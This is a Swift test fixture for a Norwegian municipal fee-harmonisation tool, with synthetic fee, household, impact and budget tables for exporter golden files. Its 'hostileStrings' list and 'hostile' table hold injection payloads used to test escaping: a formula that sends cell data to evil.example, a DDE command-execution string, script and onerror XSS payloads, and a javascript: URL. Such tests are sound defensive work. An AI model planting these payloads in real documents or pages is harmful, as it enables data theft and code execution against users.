@testable import Harmoni

/// A fixed set of synthetic tables (a fee comparison, a typical household, an impact ledger, a
/// skyggebudsjett) for the exporters' golden files, and tables full of hostile strings.
enum ExportFixtures {
    static let askerSource = Source(
        id: "asker_sfo_2019", title: "Asker kommune: Pris og betaling i SFO (sideversjon 2019)",
        url: "https://www.asker.kommune.no/skole/sfo/pris-og-betaling/", date: CalendarDate(iso: "2019-01-01"))
    static let roykenSource = Source(
        id: "royken_gebyrregulativ_2019", title: "Røyken kommune: Gebyrregulativ 2019", reference: "PS 112/18")
    static let kostraSource = Source(
        id: "kostra_2019", title: "SSB KOSTRA: Netto driftsutgifter 2019", url: "https://www.ssb.no/statbank/table/12362/")

    static func kr(_ kroner: Int64) -> Money { Money(kroner: kroner) }
    static func tkr(_ kroner: Int64) -> Money { Money(kroner: kroner) }

    /// Fee levels per municipality, with an estimate (footnote 1) and a missing value (footnote 2).
    static var diff: Table {
        var table = Table(
            kind: "diff", title: "SFO: pris per år",
            columns: [
                Column("tjeneste", "Tjeneste"), Column("asker", "Asker", .right), Column("royken", "Røyken", .right),
                Column("hurum", "Hurum", .right), Column("spread_pct", "Spenn %", .right),
            ])
        let estimate = table.footnote("Hurum: anslått fra Røykens sats (nasjonal referanse), lav sikkerhet.")
        let missing = table.footnote("Ikke publisert for 2019.")
        table.rows = [
            [.text("SFO, 100 % plass"), .money(kr(32_890)), .money(Money(ore: 3_085_550)), .money(kr(31_000), status: .estimated, footnotes: [estimate]), .rate(Rate(ppm: 61_000))],
            [.text("SFO, 60 % plass"), .money(kr(21_340)), .money(Money(ore: 1_408_430)), .missing(footnotes: [missing]), .rate(Rate(ppm: 515_200))],
            [.text("Kost per måned"), .money(kr(320)), .money(kr(300)), .money(kr(300), status: .carriedForward), .rate(Rate(ppm: 66_667))],
        ]
        table.cite(askerSource)
        table.cite(roykenSource)
        table.notes = ["Beløp i kr per år inkl. mva; SFO faktureres 11 måneder."]
        return table
    }

    /// A typical household before and after, per old municipality (a negative change).
    static var household: Table {
        var table = Table(
            kind: "household", title: "Familie, to barn i barnehage og ett i SFO (750 000 kr)",
            columns: [
                Column("kommune", "Kommune"), Column("before", "Før", .right), Column("after", "Etter", .right),
                Column("change", "Endring", .right), Column("change_pct", "Endring %", .right),
            ])
        table.rows = [
            [.text("Asker"), .money(kr(68_420)), .money(kr(66_900)), .money(kr(-1_520)), .rate(Rate(ppm: -22_216))],
            [.text("Røyken"), .money(Money(ore: 6_512_050)), .money(kr(66_900)), .money(Money(ore: 177_950)), .rate(Rate(ppm: 27_326))],
            [.text("Hurum"), .money(kr(64_000), status: .estimated), .money(kr(66_900)), .money(kr(2_900), status: .estimated), .rate(Rate(ppm: 45_313))],
        ]
        table.cite(askerSource)
        return table
    }

    /// The impact by area and year, in 1 000 kr, with a total row.
    static var impact: Table {
        var table = Table(
            kind: "impact", title: "Virkning av harmoniseringen per tjenesteområde og år (1 000 kr, faste 2020-priser)",
            columns: [
                Column("area", "Tjenesteområde"), Column("2020", "2020", .right), Column("2021", "2021", .right),
                Column("2022", "2022", .right), Column("2023", "2023", .right),
            ])
        table.rows = [
            [.text("Oppvekst, undervisning, kunnskap"), .thousands(Money(ore: -1_234_567_89)), .thousands(tkr(-2_469_000)), .thousands(tkr(-3_700_000)), .thousands(tkr(-3_700_000))],
            [.text("Kultur, idrett, frivillighet"), .thousands(tkr(412_000)), .thousands(tkr(824_500)), .thousands(tkr(1_236_000)), .thousands(tkr(1_236_000), status: .estimated)],
            [.text("Sum"), .thousands(Money(ore: -822_567_89)), .thousands(tkr(-1_644_500)), .thousands(tkr(-2_464_000)), .thousands(tkr(-2_464_000))],
        ]
        table.cite(kostraSource)
        table.notes = ["Negative tall betyr lavere inntekter for kommunen."]
        return table
    }

    /// The skyggebudsjett for one area, in 1 000 kr.
    static var budget: Table {
        var table = Table(
            kind: "budget", title: "Skyggebudsjett 2020–2023: Oppvekst (1 000 kr)",
            columns: [
                Column("line", "Linje"), Column("2020", "2020", .right), Column("2021", "2021", .right),
                Column("2022", "2022", .right), Column("2023", "2023", .right),
            ])
        table.rows = [
            [.text("Asker + Røyken + Hurum 2019"), .thousands(tkr(1_519_760_000)), .thousands(tkr(1_519_760_000)), .thousands(tkr(1_519_760_000)), .thousands(tkr(1_519_760_000))],
            [.text("Harmonisering"), .thousands(Money(ore: -1_234_567_89)), .thousands(tkr(-2_469_000)), .thousands(tkr(-3_700_000)), .thousands(tkr(-3_700_000))],
            [.text("Prisvekst (deflator 3,1 %)"), .thousands(tkr(47_112_560)), .thousands(tkr(47_112_560)), .thousands(tkr(47_112_560)), .thousands(tkr(47_112_560))],
        ]
        table.cite(kostraSource)
        return table
    }

    /// The fixed report table set of the golden files.
    static var tables: [Table] { [diff, household, impact, budget] }

    /// The fixed report of the HTML golden file and the browser check.
    static var report: Report {
        Report(
            title: "Harmonisering av gebyrer i nye Asker: eksempel",
            summary: ["Scenario: eksempel.", "Vedtak i scenariet: harmonise sfo.* to lowest."],
            provenance: "harmoni (testdata)",
            sections: [
                ReportSection(title: diff.title, tables: [diff], charts: BarChart.suggested(for: diff).map { [$0] } ?? []),
                ReportSection(title: "Typiske husholdninger", tables: [household]),
                ReportSection(title: impact.title, tables: [impact], charts: BarChart.suggested(for: impact).map { [$0] } ?? []),
                ReportSection(title: "Skyggebudsjett", tables: [budget]),
            ])
    }

    /// Strings an attacker might put in a service name or a source.
    static let hostileStrings = [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"klikk\")", "<script>alert(1)</script>", "\"quoted\" name",
        "line one\nline two", "a;b;c", "+47 22 00 00 00", "@SUM(A1:A9)", "-2+3", "\tTab first", "\r=carriage",
        "  =padded", "pipe | and ` back`tick", "</style><script>alert(2)</script>", "<img src=x onerror=alert(3)>",
        "& ampersand 'single'", "＝fullwidth", "\"\u{301}combining quote",
    ]

    /// A table whose service names, notes, footnotes and sources are hostile.
    static var hostile: Table {
        var table = Table(
            kind: "diff", title: "<script>alert('title')</script>",
            columns: [Column("tjeneste", "Tjeneste <b>"), Column("asker", "Asker \"kr\"", .right)])
        let note = table.footnote("<script>alert('footnote')</script>; =1+1")
        table.rows = hostileStrings.enumerated().map { i, name in
            [.text(name), .money(Money(ore: Int64(i) * 123_45 - 500_00), status: i == 1 ? .estimated : .published, footnotes: i == 1 ? [note] : [])]
        }
        table.notes = ["=HYPERLINK(\"http://evil.example\")", "</p><script>alert('note')</script>"]
        table.cite(Source(id: "evil_1", title: "<img src=x onerror=alert('src')>", url: "javascript:alert('url')", reference: "=cmd|' /C calc'!A0"))
        table.cite(Source(id: "evil_2", title: "Quote \" and ; and\nnewline", url: "https://example.org/?a=1&b=\"><script>alert(4)</script>"))
        return table
    }
}
